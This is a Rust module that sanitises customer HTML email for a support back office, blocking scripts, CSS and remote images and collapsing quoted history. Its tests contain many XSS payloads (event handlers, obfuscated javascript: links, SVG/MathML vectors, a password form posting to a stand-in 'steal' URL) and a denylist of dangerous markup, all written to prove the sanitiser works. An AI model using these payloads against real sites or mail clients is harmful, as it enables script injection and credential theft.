//! Customer HTML mail made safe to show: sanitised with ammonia, remote images blocked unless
//! asked for, `cid:` images pointed at their attachment, and quoted history found so the page
//! can collapse it. Pure: no I/O.
//!
//! What is kept is what a message needs to be read: text structure, tables, lists, links,
//! images, a few presentational attributes without URLs (`align`, `width`, `bgcolor`,
//! `<font color>`…). Everything that runs, loads, submits or navigates is gone: scripts,
//! event handlers, `javascript:`/`vbscript:`/`data:` links, forms, frames, objects, embeds,
//! `<base>`, `<meta>`, `<link>`, SVG and MathML.
//!
//! **CSS is dropped entirely** (`style` attributes and `<style>` elements with their text).
//! ammonia sanitises markup, not CSS: keeping even a "safe subset" of properties means trusting
//! a CSS filter against `url()`, `image-set()`, `@import`, `expression()`, escapes and parser
//! differences, and CSS can also draw convincing fake interface over the page (a phishing
//! "sign in again" box) or leak what a page holds through selectors. Customer-service mail is
//! read for its words; losing a newsletter's colours is the cheaper failure. The frame that
//! shows the result has its own small stylesheet, and its CSP forbids any other style, so a
//! style that slipped through would still not apply.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use ammonia::{Builder, UrlRelative};

pub use crate::intake::reply_text::{QuotedText, split_quoted_text};

/// Whether images from the Internet may load. They tell the sender the mail was read (and
/// when, and from where), so they wait until an employee asks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ImagePolicy {
    #[default]
    BlockRemote,
    AllowRemote,
}

/// Sanitised HTML, and how many remote images were taken out of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafeHtml {
    pub html: String,
    pub remote_images_blocked: usize,
}

/// The marker class given to an element that holds quoted history.
const QUOTED_CLASS: &str = "guichet-quoted";
/// The marker id of an element from which the rest of its parent is quoted history (Outlook
/// puts the quoted header block and the old message after it, as siblings).
const HISTORY_START_ID: &str = "guichet-history-start";

/// Classes mail clients give to the quoted part of a reply (Gmail, Yahoo, Thunderbird,
/// Apple Mail, Zimbra, Roundcube, Outlook on the web, ProtonMail, Front, Missive).
const QUOTE_CLASSES: [&str; 12] = [
    "gmail_quote",
    "gmail_quote_container",
    "yahoo_quoted",
    "moz-cite-prefix",
    "zmail_extra",
    "rcmBody",
    "protonmail_quote",
    "front-blockquote",
    "missive_quote",
    "ms-outlook-mobile-reference-message",
    "AppleOriginalContents",
    "OutlookMessageHeader",
];

/// Ids Outlook gives to the start of the quoted history ("divRplyFwdMsg", "appendonsend",
/// with the `x_` prefix Outlook on the web adds when it re-quotes).
const HISTORY_START_IDS: [&str; 4] = [
    "divrplyfwdmsg",
    "appendonsend",
    "x_divrplyfwdmsg",
    "x_appendonsend",
];

/// Image types a browser decodes without running anything (no SVG).
const SAFE_DATA_IMAGE_TYPES: [&str; 6] = [
    "image/png",
    "image/gif",
    "image/jpeg",
    "image/jpg",
    "image/webp",
    "image/bmp",
];

const ALLOWED_TAGS: [&str; 66] = [
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
];
// `ul`, `tt`, `wbr` are added below (the array above is already long).
const MORE_ALLOWED_TAGS: [&str; 3] = ["ul", "tt", "wbr"];

/// Elements removed with everything inside them: what runs, loads, or is not text.
const REMOVED_WITH_CONTENT: [&str; 19] = [
    "script", "style", "title", "head", "iframe", "frame", "frameset", "object", "embed", "applet",
    "svg", "math", "template", "noscript", "noembed", "noframes", "xmp", "textarea", "select",
];

/// Sanitises `html` for display. `cid_url` turns a `cid:` reference (the Content-ID without
/// `cid:` and angle brackets) into the URL that serves that attachment, or `None` to drop it.
pub fn sanitize(
    html: &str,
    policy: ImagePolicy,
    cid_url: impl Fn(&str) -> Option<String> + Send + Sync + 'static,
) -> SafeHtml {
    let blocked = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&blocked);
    let mut builder = Builder::empty();
    builder
        .tags(
            ALLOWED_TAGS
                .iter()
                .chain(&MORE_ALLOWED_TAGS)
                .copied()
                .collect(),
        )
        .clean_content_tags(REMOVED_WITH_CONTENT.into_iter().collect())
        .generic_attributes(["lang", "title", "dir"].into_iter().collect())
        .tag_attributes(tag_attributes())
        .tag_attribute_values(
            [(
                "blockquote",
                [("type", ["cite"].into_iter().collect())].into(),
            )]
            .into(),
        )
        .set_tag_attribute_values([("a", [("target", "_blank")].into())].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        // ammonia checks schemes first; the filter below narrows `data:` and `cid:` per element.
        .url_schemes(
            ["http", "https", "mailto", "tel", "cid", "data"]
                .into_iter()
                .collect(),
        )
        // Relative URLs would point at the back office itself; `//host` is remote, and the
        // filter counts it.
        .url_relative(UrlRelative::PassThrough)
        .strip_comments(true)
        .attribute_filter(move |element, attribute, value| {
            filter_attribute(element, attribute, value, policy, &cid_url, &counter)
        });
    let html = builder.clean(html).to_string();
    SafeHtml {
        html,
        remote_images_blocked: blocked.load(Ordering::Relaxed),
    }
}

fn tag_attributes() -> HashMap<&'static str, HashSet<&'static str>> {
    let table_cell = [
        "align", "valign", "width", "height", "bgcolor", "colspan", "rowspan", "nowrap",
    ];
    [
        ("a", &["href", "hreflang"][..]),
        ("img", &["src", "alt", "width", "height", "align", "border"]),
        (
            "table",
            &[
                "width",
                "border",
                "cellpadding",
                "cellspacing",
                "align",
                "bgcolor",
            ],
        ),
        ("td", &table_cell),
        ("th", &table_cell),
        ("tr", &["align", "valign", "bgcolor"]),
        ("col", &["span", "width", "align"]),
        ("colgroup", &["span", "width", "align"]),
        ("font", &["color", "face", "size"]),
        ("div", &["align", "class", "id"]),
        ("p", &["align"]),
        ("blockquote", &["class"]),
        ("span", &["class"]),
        ("ol", &["start", "type"]),
        ("li", &["value"]),
        ("hr", &["width", "size", "align"]),
    ]
    .into_iter()
    .map(|(tag, attributes)| (tag, attributes.iter().copied().collect()))
    .collect()
}

fn filter_attribute<'u>(
    element: &str,
    attribute: &str,
    value: &'u str,
    policy: ImagePolicy,
    cid_url: &dyn Fn(&str) -> Option<String>,
    blocked: &AtomicUsize,
) -> Option<Cow<'u, str>> {
    match (element, attribute) {
        ("a", "href") => safe_link(value).map(Cow::Borrowed),
        ("img", "src") => image_source(value, policy, cid_url, blocked),
        (_, "class") => value
            .split_ascii_whitespace()
            .any(|class| QUOTE_CLASSES.iter().any(|q| q.eq_ignore_ascii_case(class)))
            .then_some(Cow::Borrowed(QUOTED_CLASS)),
        (_, "id") => HISTORY_START_IDS
            .contains(&value.trim().to_ascii_lowercase().as_str())
            .then_some(Cow::Borrowed(HISTORY_START_ID)),
        // Colours and sizes only: no URL, no CSS.
        (_, "bgcolor" | "color") => is_colour(value).then_some(Cow::Borrowed(value)),
        (_, "width" | "height" | "size" | "border" | "cellpadding" | "cellspacing" | "span") => {
            is_length(value).then_some(Cow::Borrowed(value))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// The scheme of `url` as the browser would read it (control characters and whitespace that
/// browsers strip ignored), lowercased; `None` for a relative URL.
fn scheme_of(url: &str) -> Option<String> {
    let cleaned: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect();
    let (scheme, _) = cleaned.split_once(':')?;
    let valid = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    valid.then(|| scheme.to_ascii_lowercase())
}

/// Links kept: web, mail and phone. `data:`, `cid:`, relative and fragment links are dropped.
fn safe_link(href: &str) -> Option<&str> {
    matches!(
        scheme_of(href).as_deref(),
        Some("http" | "https" | "mailto" | "tel")
    )
    .then_some(href)
}

fn image_source<'u>(
    src: &'u str,
    policy: ImagePolicy,
    cid_url: &dyn Fn(&str) -> Option<String>,
    blocked: &AtomicUsize,
) -> Option<Cow<'u, str>> {
    let trimmed = src.trim();
    match scheme_of(trimmed).as_deref() {
        Some("http" | "https") => remote_image(src, policy, blocked).map(Cow::Borrowed),
        Some("cid") => {
            let content_id = trimmed[trimmed.find(':').map_or(0, |i| i + 1)..]
                .trim()
                .trim_start_matches('<')
                .trim_end_matches('>');
            cid_url(content_id).map(Cow::Owned)
        }
        Some("data") => is_safe_data_image(trimmed).then_some(Cow::Borrowed(src)),
        Some(_) => None,
        // `//host/path` takes the frame's scheme: a remote image all the same.
        None if trimmed.starts_with("//") || trimmed.starts_with("\\\\") => {
            remote_image(src, policy, blocked).map(|_| Cow::Owned(format!("https:{trimmed}")))
        }
        None => None,
    }
}

fn remote_image<'u>(src: &'u str, policy: ImagePolicy, blocked: &AtomicUsize) -> Option<&'u str> {
    match policy {
        ImagePolicy::AllowRemote => Some(src),
        ImagePolicy::BlockRemote => {
            blocked.fetch_add(1, Ordering::Relaxed);
            None
        }
    }
}

/// `data:image/png;base64,…` and the other raster types; never `image/svg+xml` or HTML.
fn is_safe_data_image(src: &str) -> bool {
    let Some(rest) = src.get(5..) else {
        return false;
    };
    let media_type = rest
        .split([';', ','])
        .next()
        .unwrap_or_default()
        .trim()
        .to_ascii_lowercase();
    SAFE_DATA_IMAGE_TYPES.contains(&media_type.as_str())
}

/// `#fff`, `#a0b1c2`, `red`: nothing that could be anything else.
fn is_colour(value: &str) -> bool {
    let value = value.trim();
    let hex = value
        .strip_prefix('#')
        .is_some_and(|h| matches!(h.len(), 3 | 6) && h.chars().all(|c| c.is_ascii_hexdigit()));
    hex || (!value.is_empty()
        && value.len() <= 20
        && value.chars().all(|c| c.is_ascii_alphabetic()))
}

/// `600`, `100%`, `2`: a number, perhaps with `%` or `px`.
fn is_length(value: &str) -> bool {
    let value = value.trim();
    let number = value
        .strip_suffix('%')
        .or_else(|| value.strip_suffix("px"))
        .unwrap_or(value);
    !number.is_empty()
        && number.len() <= 6
        && number.chars().all(|c| c.is_ascii_digit() || c == '.')
}

/// Wraps the first quoted history in sanitised HTML (from [`sanitize`]) into
/// `<details class="guichet-quoted-history"><summary>{label}</summary>…</details>`, closed by
/// default. Returns the HTML and whether history was found. Nothing is removed.
///
/// A `<blockquote type="cite">` or an element a mail client marked as quoted is wrapped alone
/// (text after it, as in a bottom-posted reply, stays visible); from an Outlook "reply header"
/// marker, the rest of its parent is wrapped.
pub fn collapse_quoted_html(safe_html: &str, label: &str) -> (String, bool) {
    let tags = scan_tags(safe_html);
    let Some(start) = tags
        .iter()
        .position(|tag| tag.opening && tag.is_history_marker)
    else {
        return (safe_html.to_string(), false);
    };
    let marker = &tags[start];
    let wrap_parent_rest = marker.is_history_start;
    // The end: the marker's own closing tag, or its parent's closing tag.
    let mut depth = 0usize;
    let mut end = safe_html.len();
    for tag in &tags[start..] {
        if tag.void {
            continue;
        }
        if tag.opening {
            depth += 1;
            continue;
        }
        if wrap_parent_rest {
            if depth == 0 {
                end = tag.start;
                break;
            }
            depth -= 1;
        } else {
            depth -= 1;
            if depth == 0 {
                end = tag.end;
                break;
            }
        }
    }
    let mut out = String::with_capacity(safe_html.len() + label.len() + 80);
    out.push_str(&safe_html[..marker.start]);
    out.push_str("<details class=\"guichet-quoted-history\"><summary>");
    out.push_str(&escape_text(label));
    out.push_str("</summary>");
    out.push_str(&safe_html[marker.start..end]);
    out.push_str("</details>");
    out.push_str(&safe_html[end..]);
    (out, true)
}

/// A tag in html5ever's serialisation of sanitised HTML.
#[derive(Debug)]
struct Tag {
    start: usize,
    end: usize,
    opening: bool,
    void: bool,
    is_history_marker: bool,
    is_history_start: bool,
}

const VOID_ELEMENTS: [&str; 8] = ["br", "hr", "img", "col", "wbr", "area", "input", "meta"];

/// The tags of html5ever-serialised HTML: text there never holds a raw `<` (it is `&lt;`), and
/// attribute values are always double-quoted with `"` escaped, so a plain scan is exact.
fn scan_tags(html: &str) -> Vec<Tag> {
    let bytes = html.as_bytes();
    let mut tags = Vec::new();
    let mut index = 0;
    while let Some(offset) = html[index..].find('<') {
        let start = index + offset;
        let mut cursor = start + 1;
        let mut in_quotes = false;
        while cursor < bytes.len() && (in_quotes || bytes[cursor] != b'>') {
            if bytes[cursor] == b'"' {
                in_quotes = !in_quotes;
            }
            cursor += 1;
        }
        let end = (cursor + 1).min(bytes.len());
        let inner = &html[start + 1..cursor.min(bytes.len())];
        let opening = !inner.starts_with('/');
        let name: String = inner
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        let quoted_class = inner.contains(&format!("class=\"{QUOTED_CLASS}\""))
            || (name == "blockquote" && inner.contains("type=\"cite\""));
        let history_start = inner.contains(&format!("id=\"{HISTORY_START_ID}\""));
        tags.push(Tag {
            start,
            end,
            opening,
            void: VOID_ELEMENTS.contains(&name.as_str()),
            is_history_marker: opening && (quoted_class || history_start),
            is_history_start: opening && history_start && !quoted_class,
        });
        index = end;
    }
    tags
}

fn escape_text(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> SafeHtml {
        sanitize(html, ImagePolicy::BlockRemote, |_| None)
    }

    fn assert_gone(html: &str, forbidden: &[&str]) {
        let out = clean(html).html.to_ascii_lowercase();
        for needle in forbidden {
            assert!(
                !out.contains(needle),
                "{needle:?} survived in {out:?} (from {html:?})"
            );
        }
    }

    #[test]
    fn scripts_and_event_handlers_are_removed() {
        assert_gone(
            "<p onclick=\"alert(1)\">Bonjour</p><script>document.title='pwned'</script><SCRIPT SRC=//x.example/a.js></SCRIPT>",
            &["script", "onclick", "alert", "pwned", "x.example"],
        );
        assert_gone(
            "<img src=x onerror=alert(1)><body onload=alert(2)><div onmouseover='x()'>t</div>",
            &["onerror", "onload", "onmouseover", "alert"],
        );
        assert_eq!(
            clean("<p onclick=\"alert(1)\">Bonjour</p>").html,
            "<p>Bonjour</p>"
        );
    }

    #[test]
    fn dangerous_urls_are_removed_and_links_open_apart() {
        assert_gone(
            "<a href=\"javascript:alert(1)\">a</a><a href=\" JaVaScRiPt:alert(2)\">b</a><a href=\"java&#x09;script:alert(3)\">c</a><a href=\"vbscript:msgbox\">d</a><a href=\"data:text/html,<script>alert(4)</script>\">e</a>",
            &["javascript", "vbscript", "data:", "alert", "href"],
        );
        assert_eq!(
            clean("<a href=\"https://shop.example/order/1\">order</a>").html,
            "<a href=\"https://shop.example/order/1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">order</a>"
        );
        assert!(
            clean("<a href=\"mailto:a@b.example\">m</a>")
                .html
                .contains("mailto:a@b.example")
        );
        // Relative links would point into the back office.
        let relative = clean("<a href=\"/tickets/1/delete\">x</a>").html;
        assert!(!relative.contains("href"), "{relative}");
        assert!(relative.contains("target=\"_blank\""), "{relative}");
    }

    #[test]
    fn css_is_dropped_whole() {
        assert_gone(
            "<style>@import url(https://x.example/a.css); body{background:url(javascript:alert(1))}</style><p style=\"width: expression(alert(1)); background-image: url('https://x.example/t.gif')\">t</p><link rel=stylesheet href=https://x.example/b.css>",
            &[
                "style",
                "expression",
                "url(",
                "x.example",
                "@import",
                "link",
            ],
        );
    }

    #[test]
    fn active_and_structural_elements_are_removed() {
        assert_gone(
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\" src=https://x.example></iframe><object data=https://x.example/a.swf></object><embed src=https://x.example/b><base href=https://x.example/><meta http-equiv=refresh content=\"0;url=https://x.example\"><form action=https://x.example/steal method=post><input name=password><button>Go</button></form>",
            &[
                "iframe",
                "srcdoc",
                "object",
                "embed",
                "base",
                "meta",
                "refresh",
                "form",
                "input",
                "button",
                "x.example",
                "pwned",
            ],
        );
        assert_gone(
            "<svg><script>alert(1)</script><image href=https://x.example/i.png /><a xlink:href=javascript:alert(2)><text>t</text></a></svg><math><mtext><img src=x onerror=alert(3)></mtext><maction actiontype=statusline xlink:href=javascript:alert(4)>x</maction></math>",
            &[
                "svg",
                "script",
                "alert",
                "math",
                "xlink",
                "x.example",
                "onerror",
            ],
        );
    }

    #[test]
    fn remote_images_are_blocked_and_counted_unless_allowed() {
        let html = "<p>Hi</p><img src=\"https://t.example/open.gif\" alt=\"logo\"><img src=\"http://t.example/2.png\"><img src=\"//t.example/3.png\"><img src=\"https://t.example/4.png\" srcset=\"https://t.example/5.png 2x\">";
        let blocked = clean(html);
        assert_eq!(blocked.remote_images_blocked, 4);
        assert!(!blocked.html.contains("t.example"), "{}", blocked.html);
        assert!(blocked.html.contains("alt=\"logo\""));
        let allowed = sanitize(html, ImagePolicy::AllowRemote, |_| None);
        assert_eq!(allowed.remote_images_blocked, 0);
        assert!(allowed.html.contains("src=\"https://t.example/open.gif\""));
        assert!(
            allowed.html.contains("src=\"https://t.example/3.png\""),
            "{}",
            allowed.html
        );
        // srcset is never kept: it would load whatever the policy says.
        assert!(!allowed.html.contains("srcset"));
    }

    #[test]
    fn background_attributes_and_unknown_attributes_go() {
        assert_gone(
            "<table background=\"https://x.example/bg.png\" bgcolor=\"url(https://x.example/c)\"><tr><td background=https://x.example/d.png width=\"100%\">t</td></tr></table><body background=https://x.example/e.png>",
            &["background", "x.example", "url("],
        );
        assert!(
            clean("<table><tr><td bgcolor=\"#ffcc00\" width=\"50%\">t</td></tr></table>")
                .html
                .contains("bgcolor=\"#ffcc00\"")
        );
    }

    #[test]
    fn data_images_only_of_raster_types() {
        let png = "<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
        assert!(
            clean(png)
                .html
                .contains("data:image/png;base64,iVBORw0KGgo=")
        );
        assert_gone(
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"><img src=\"data:text/html,<script>alert(1)</script>\">",
            &["data:", "svg", "script"],
        );
        assert_eq!(clean(png).remote_images_blocked, 0);
    }

    #[test]
    fn cid_images_point_at_the_attachment() {
        let out = sanitize(
            "<img src=\"cid:logo@shop\"><img src=\"CID:<other@shop>\"><img src=\"cid:unknown\">",
            ImagePolicy::BlockRemote,
            |cid| match cid {
                "logo@shop" => Some("/tickets/4/messages/9/attachments/0".into()),
                "other@shop" => Some("data:image/png;base64,AAAA".into()),
                _ => None,
            },
        );
        assert_eq!(
            out.html,
            "<img src=\"/tickets/4/messages/9/attachments/0\"><img src=\"data:image/png;base64,AAAA\"><img>"
        );
        assert_eq!(out.remote_images_blocked, 0);
    }

    #[test]
    fn broken_and_mixed_case_markup_is_normalised_safely() {
        assert_gone(
            "<ScRiPt>alert(1)</sCrIpT><IMG SRC=x OnErRoR=alert(2)><<script>alert(3)//<</script><p <img src=x onerror=alert(4)>x</p><a href=\"jav&#97;script:alert(5)\">y",
            &[
                "script",
                "onerror",
                "alert(1)",
                "alert(2)",
                "alert(4)",
                "javascript",
                "href",
            ],
        );
        // Unclosed tags are closed; text survives.
        assert_eq!(
            clean("<b>gras <i>et italique").html,
            "<b>gras <i>et italique</i></b>"
        );
    }

    #[test]
    fn text_survives_with_its_structure() {
        let out = clean(
            "<div dir=\"ltr\"><p>Bonjour,</p><ul><li>Commande <b>10452</b></li></ul><table><tr><td colspan=\"2\">x</td></tr></table><font color=\"red\">!</font></div>",
        );
        assert_eq!(
            out.html,
            "<div dir=\"ltr\"><p>Bonjour,</p><ul><li>Commande <b>10452</b></li></ul><table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table><font color=\"red\">!</font></div>"
        );
    }

    #[test]
    fn gmail_quote_is_collapsed_not_removed() {
        let safe = clean(
            "<div dir=\"ltr\">Merci !</div><br><div class=\"gmail_quote\"><div class=\"gmail_attr\">Le lun. 3 juin 2024, Boutique a écrit :</div><blockquote class=\"gmail_quote\">Votre commande <div>est partie</div></blockquote></div>",
        );
        let (html, found) = collapse_quoted_html(&safe.html, "Texte cité");
        assert!(found);
        assert_eq!(
            html,
            "<div dir=\"ltr\">Merci !</div><br><details class=\"guichet-quoted-history\"><summary>Texte cité</summary><div class=\"guichet-quoted\"><div>Le lun. 3 juin 2024, Boutique a écrit :</div><blockquote class=\"guichet-quoted\">Votre commande <div>est partie</div></blockquote></div></details>"
        );
    }

    #[test]
    fn apple_cite_blockquote_keeps_bottom_posted_text_visible() {
        let safe = clean(
            "<div>On 3 Jun 2024, at 10:00, Shop wrote:</div><blockquote type=\"cite\"><div>Old <b>words</b></div></blockquote><div>My answer below.</div>",
        );
        let (html, found) = collapse_quoted_html(&safe.html, "Quoted <text>");
        assert!(found);
        assert_eq!(
            html,
            "<div>On 3 Jun 2024, at 10:00, Shop wrote:</div><details class=\"guichet-quoted-history\"><summary>Quoted &lt;text&gt;</summary><blockquote type=\"cite\"><div>Old <b>words</b></div></blockquote></details><div>My answer below.</div>"
        );
    }

    #[test]
    fn outlook_reply_header_collapses_the_rest_of_its_parent() {
        let safe = clean(
            "<div class=\"WordSection1\"><p>Thanks.</p><div id=\"appendonsend\"></div><hr><div id=\"divRplyFwdMsg\"><b>From:</b> Shop<br><b>Sent:</b> Monday</div><div>Old message <img src=\"cid:x\"></div></div><p>after</p>",
        );
        let (html, found) = collapse_quoted_html(&safe.html, "Quoted");
        assert!(found);
        assert_eq!(
            html,
            "<div><p>Thanks.</p><details class=\"guichet-quoted-history\"><summary>Quoted</summary><div id=\"guichet-history-start\"></div><hr><div id=\"guichet-history-start\"><b>From:</b> Shop<br><b>Sent:</b> Monday</div><div>Old message <img></div></details></div><p>after</p>"
        );
    }

    #[test]
    fn no_history_leaves_html_unchanged() {
        let safe = clean(
            "<p title=\"a &quot;<blockquote type=cite>&quot;\">x</p><blockquote>not cite</blockquote>",
        );
        let (html, found) = collapse_quoted_html(&safe.html, "Quoted");
        assert!(!found);
        assert_eq!(html, safe.html);
    }

    #[test]
    fn other_classes_and_ids_are_dropped() {
        assert_eq!(
            clean("<div class=\"hidden evil\" id=\"login\">x</div><span class=\"gmail_quote x\">y</span>").html,
            "<div>x</div><span class=\"guichet-quoted\">y</span>"
        );
    }

    /// Every message of the hostile corpus comes out with nothing that runs or loads.
    #[test]
    fn hostile_corpus_comes_out_inert() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/hostile_html");
        let mut count = 0;
        let links = regex::Regex::new(r#" href="https?://[^"]*""#).expect("valid regex");
        let tags = regex::Regex::new(r"<[^>]*>").expect("valid regex");
        let handler = regex::Regex::new(r"<[^>]*\son[a-z]+\s*=").expect("valid regex");
        for entry in std::fs::read_dir(&dir).expect("the hostile corpus") {
            let path = entry.expect("a corpus entry").path();
            if path.extension().is_none_or(|ext| ext != "eml") {
                continue;
            }
            let parsed =
                crate::intake::parse::parse_message(&std::fs::read(&path).expect("a sample"));
            let html = parsed
                .html
                .unwrap_or_else(|| panic!("{} has no HTML part", path.display()));
            let out = clean(&html).html.to_ascii_lowercase();
            // Links to the web stay (they open only when clicked, in a new tab); nothing else
            // may name a remote host.
            let out = links.replace_all(&out, " href=\"(web link)\"");
            // Text is escaped, so it can say anything ("javascript", "top.pwned=1" as words);
            // only the markup is checked.
            let markup: Vec<&str> = tags.find_iter(&out).map(|tag| tag.as_str()).collect();
            let out = markup.join("\n");
            for needle in [
                "<script",
                "<style",
                "<iframe",
                "<object",
                "<embed",
                "<form",
                "<input",
                "<button",
                "<base",
                "<meta",
                "<link",
                "<svg",
                "<math",
                "<frame",
                "<applet",
                "<video",
                "<audio",
                "<picture",
                "<source",
                "<area",
                "<portal",
                "srcdoc",
                "srcset",
                "style=",
                "background=",
                "javascript",
                "vbscript",
                "data:text",
                "data:image/svg",
                "evil.example",
                "expression(",
                "url(",
                "@import",
                "formaction",
                "poster",
            ] {
                assert!(
                    !out.contains(needle),
                    "{}: {needle:?} survived in {out}",
                    path.display()
                );
            }
            assert!(
                !out.contains("pwned"),
                "{}: a payload survived in a tag: {out}",
                path.display()
            );
            assert!(
                !handler.is_match(&out),
                "{}: an event handler survived in {out}",
                path.display()
            );
            count += 1;
        }
        assert!(count >= 20, "only {count} hostile samples");
    }
}
